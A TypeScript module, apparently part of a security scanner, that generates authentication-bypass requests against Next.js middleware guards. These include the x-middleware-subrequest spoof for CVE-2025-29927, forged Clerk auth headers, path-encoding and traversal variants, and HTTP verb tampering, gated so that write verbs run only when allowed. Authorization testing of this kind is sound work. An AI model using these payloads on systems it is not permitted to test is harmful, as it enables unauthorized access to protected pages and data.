import type { Ask } from '../request.ts'

/** A way around a guard that is tried as nobody. */
export interface Trick {
  name: string
  family: 'headers' | 'paths' | 'verbs'
  ask: Ask
}

/** What a trick may need to know of the app. */
export interface Known {
  /** Id of the build, which `_next/data` bears in its path. */
  buildId: string
  /** A session token that no key has signed. */
  forged: string
  /** Paths that the middleware leaves alone, by reasoning. */
  uncovered: readonly string[]
  /** Verbs that have a handler of their own at the path, which is asked by itself. */
  handled: readonly string[]
  /** Where a browser that has the page's layouts already says that it is; null where it is not known. */
  tree: string | null
  /** May the app be changed? */
  writes: boolean
}

/** Every trick on one request. */
export function tricksOn(ask: Ask, known: Known): Trick[] {
  return [
    ...headers(ask, known).map(({ name, ...rest }) => ({
      name,
      family: 'headers' as const,
      ask: { ...ask, ...rest },
    })),
    ...paths(ask.path, known).map(path => ({
      name: `at ${path}`,
      family: 'paths' as const,
      ask: { ...ask, path },
    })),
    ...verbs(ask, known).map(method => ({
      name: `by ${method}`,
      family: 'verbs' as const,
      ask: { ...ask, method },
    })),
  ]
}

/** Next took these for marks of its own: CVE-2025-29927 by the first, with the recursion limit of later releases. */
const SUBREQUESTS = ['middleware', 'src/middleware', 'pages/_middleware', 'proxy', 'src/proxy'].map(name =>
  Array.from({ length: 5 }, () => name).join(':'),
)

function headers(
  { headers: own, path }: Ask,
  { forged, tree }: Known,
): { name: string; headers: Ask['headers'] }[] {
  const added: readonly Record<string, string>[] = [
    ...SUBREQUESTS.map(value => ({ 'x-middleware-subrequest': value })),
    // What Clerk's middleware hands to the app behind it (@clerk/backend `constants.Headers`).
    {
      'x-clerk-auth-status': 'signed-in',
      'x-clerk-auth-token': forged,
      'x-clerk-auth-signature': 'x'.repeat(40),
    },
    { 'x-clerk-auth-status': 'signed-in', 'x-clerk-auth-reason': '', 'x-clerk-auth-token': forged },
    { 'x-clerk-request-data': 'x', 'x-clerk-clerk-url': 'http://localhost/' },
    // What a middleware answers to Next with.
    { 'x-middleware-next': '1' },
    { 'x-middleware-rewrite': path },
    {
      'x-middleware-override-headers': 'authorization',
      'x-middleware-request-authorization': `Bearer ${forged}`,
    },
    // Names that proxies hand a path or a method on by.
    { 'x-original-url': path, 'x-rewrite-url': '/' },
    { 'x-forwarded-host': 'localhost', 'x-forwarded-proto': 'https' },
    { 'x-http-method-override': 'GET' },
    // Next asks itself for parts of a page with these.
    { rsc: '1' },
    { rsc: '1', 'next-router-prefetch': '1' },
    { rsc: '1', 'next-router-prefetch': '1', 'next-router-segment-prefetch': '/_tree' },
    // A layout that the browser has is not rendered again, and a guard in it is not run.
    ...(tree === null ? [] : [{ rsc: '1', 'next-router-state-tree': tree }]),
    { purpose: 'prefetch', 'x-middleware-prefetch': '1' },
    { 'x-nextjs-data': '1' },
  ]
  return added.map(each => ({
    name: `with ${Object.entries(each)
      .map(([name, value]) => `${name}: ${value.slice(0, 40)}`)
      .join(', ')}`,
    headers: { ...own, ...each },
  }))
}

/** The same path, written otherwise. */
function paths(whole: string, { buildId, uncovered }: Known): string[] {
  const [path = '/', query] = whole.split('?')
  const rest = query === undefined ? '' : `?${query}`
  const bare = path.replace(/\/$/, '')
  const letter = /[a-z]/i.exec(bare)
  const encoded =
    letter === null
      ? []
      : [
          `${bare.slice(0, letter.index)}%${letter[0].charCodeAt(0).toString(16)}${bare.slice(letter.index + 1)}`,
        ]
  const written = [
    `/${path}`,
    `//${path}`,
    `/.${path}`,
    `/x/..${path}`,
    `/%2e${path}`,
    bare.replace(/(.)\//g, '$1%2F'),
    bare.replace(/(.)\//g, '$1%5C'),
    ...encoded,
    bare.toUpperCase(),
    `${bare}/`,
    `${bare}//`,
    `${bare}/.`,
    `${bare};x=1`,
    `${bare}.png`,
    `${bare}.css`,
    `${bare}.json`,
    `${bare}.rsc`,
    `${bare}.txt`,
    `${bare}.segments/_tree.segment.rsc`,
    `${bare}.segments/_full.segment.rsc`,
    `${bare}%00`,
    `${bare}%20`,
    `/en${path}`,
    `/_next/data/${buildId}${bare === '' ? '/index' : bare}.json`,
    `/_next/data/${buildId}/en${bare}.json`,
    `/_next/image?url=${encodeURIComponent(path)}&w=64&q=75`,
  ]
  return [
    ...new Set([
      ...written.map(each => (each.startsWith('/_next/image') ? each : each + rest)),
      ...uncovered,
    ]),
  ].filter(each => each !== whole)
}

const VERBS = ['GET', 'HEAD', 'OPTIONS', 'POST', 'PUT', 'PATCH', 'DELETE']

const HARMLESS = ['GET', 'HEAD', 'OPTIONS']

function verbs({ method }: Ask, { handled, writes }: Known): string[] {
  return VERBS.filter(
    each => each !== method && !handled.includes(each) && (writes || HARMLESS.includes(each)),
  )
}
